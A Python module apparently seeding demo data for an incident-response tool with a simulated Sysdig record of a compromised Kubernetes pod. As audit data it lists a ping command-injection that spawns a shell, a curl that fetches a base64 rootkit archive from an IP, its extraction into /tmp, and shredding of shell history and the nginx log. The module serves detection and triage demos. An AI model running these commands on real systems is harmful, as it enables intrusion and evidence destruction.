"""Demo data of the Sysdig slice: what Sysdig Secure saw in the compromised store-frontend pod
of the main demo incident — three runtime policy events and the activity-audit commands around
them — stored through the ingestion service and attached to the incident, so its timeline
(``/incidents/<number>/timeline/``) tells the story. Called once by ``load_demo``."""

from __future__ import annotations

from datetime import datetime, timedelta

from . import demo_detections, falco
from .ingest import candidate_attach, detections_group, sysdig_store
from .models import CandidateStatus, IncidentCandidate

# The same pod, container and node as the Falco alerts of ``demo_detections``.
CONTAINER = demo_detections.PING_PHP["container.id"]
POD = demo_detections.PING_PHP["k8s.pod.name"]
HOST = demo_detections.NODE
LABELS = {
    "host.hostName": HOST,
    "container.image.repo": "registry.demo.example.gov/store/store-frontend-ping-php",
    "container.image.tag": "1.4.2",
    "kubernetes.cluster.name": "demo-prod",
    "kubernetes.namespace.name": "store",
    "kubernetes.pod.name": POD,
}
# (seconds after the first command, pid, ppid, comm, pcomm, command line)
COMMANDS = (
    (0, 31201, 30877, "sh", "php-fpm", "sh -c ping -c 1 127.0.0.1; sh"),
    (1, 31202, 31201, "ping", "sh", "ping -c 1 127.0.0.1"),
    (2, 31203, 31201, "sh", "sh", "sh"),
    (9, 31210, 31203, "id", "sh", "id"),
    (
        21,
        31214,
        31203,
        "curl",
        "sh",
        "curl -s http://198.51.100.23/kit/rk.tar.gz.b64 -o /tmp/.x",
    ),
    (34, 31220, 31203, "base64", "sh", "base64 -d /tmp/.x"),
    (35, 31221, 31203, "tar", "sh", "tar xzf - -C /tmp"),
    (58, 31230, 31203, "shred", "sh", "shred -f /var/www/.bash_history"),
    (61, 31232, 31203, "truncate", "sh", "truncate -s 0 /var/log/nginx/access.log"),
)
# (seconds after the first command, rule, severity, tags, pid, command line, file)
EVENTS = (
    (
        2,
        "Terminal shell in container",
        5,
        ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
        31203,
        "sh",
        "",
    ),
    (
        58,
        "Delete or rename shell history",
        4,
        [
            "maturity_incubating",
            "host",
            "container",
            "process",
            "filesystem",
            "mitre_defense_evasion",
            "T1070",
        ],
        31230,
        "shred -f /var/www/.bash_history",
        "/var/www/.bash_history",
    ),
    (
        61,
        "Clear Log Activities",
        4,
        [
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_defense_evasion",
            "T1070",
            "NIST_800-53_AU-10",
        ],
        31232,
        "truncate -s 0 /var/log/nginx/access.log",
        "/var/log/nginx/access.log",
    ),
)


def _ns(when: datetime, seconds: int, extra: int) -> int:
    base = when + timedelta(seconds=seconds)
    epoch = base - falco.time_from_ns(0)
    return (epoch.days * 86_400 + epoch.seconds) * 1_000_000_000 + epoch.microseconds * 1000 + extra


def load(*, agency, incident, ctx, started: datetime, attached: datetime) -> int:
    """Store the demo's Sysdig items for ``agency`` (commands from ``started``), group them and
    attach the candidate to ``incident`` at ``attached``; returns how many items were stored."""
    items = []
    for n, (seconds, pid, ppid, comm, pcomm, cmdline) in enumerate(COMMANDS):
        items.append(
            {
                "id": f"demo-cmd-{n}",
                "type": "command",
                "timestamp": _ns(started, seconds, 118_000_417 + n),
                "containerId": CONTAINER,
                "cmdline": cmdline,
                "comm": comm,
                "pcomm": pcomm,
                "pid": pid,
                "ppid": ppid,
                "uid": 33,
                "username": "www-data",
                "cwd": "/var/www/html",
                "hostname": HOST,
                "tty": 0,
                "labels": LABELS,
            }
        )
    for n, (seconds, rule, severity, tags, pid, cmdline, path) in enumerate(EVENTS):
        fields = {
            "container.id": CONTAINER,
            "proc.pid": pid,
            "proc.cmdline": cmdline,
            "proc.pname": "sh",
            "user.name": "www-data",
        }
        if path:
            fields["fd.name"] = path
        items.append(
            {
                "id": f"demo-event-{n}",
                "timestamp": _ns(started, seconds, 118_250_903 + n),
                "name": "Demo runtime policy: store tampering",
                "severity": severity,
                "containerId": CONTAINER,
                "content": {
                    "ruleName": rule,
                    "ruleTags": tags,
                    "output": f"{rule} (user=www-data command={cmdline})",
                    "fields": fields,
                },
                "labels": LABELS,
                "actions": [
                    {
                        "type": "POLICY_ACTION_CAPTURE",
                        "successful": True,
                        "beforeEventNs": 5_000_000_000,
                        "afterEventNs": 15_000_000_000,
                    }
                ],
            }
        )
    result = sysdig_store(
        agency=agency,
        items=[falco.Item(index=i, value=v) for i, v in enumerate(items)],
        now=attached,
    )
    detections_group(agency_id=agency.pk, now=attached)
    # The Falco alerts' candidate of the same pod is attached already: Sysdig's events, reported
    # later, form a new open one.
    candidate = IncidentCandidate.objects.get(
        agency=agency, group_key=f"pod:store/{POD}", status=CandidateStatus.OPEN
    )
    candidate_attach(ctx=ctx, candidate=candidate, incident=incident, now=attached)
    return result.accepted


def load_into(scenario, incident) -> int:
    """``load`` for the ``load_demo`` scenario: the commands start two minutes before the main
    incident's first detection; the ISSO attaches the candidate after starting triage."""
    return load(
        agency=scenario.demo,
        incident=incident,
        ctx=scenario.ctx["isso"],
        started=scenario.ago(hours=6, minutes=6),
        attached=scenario.ago(hours=5, minutes=46),
    )
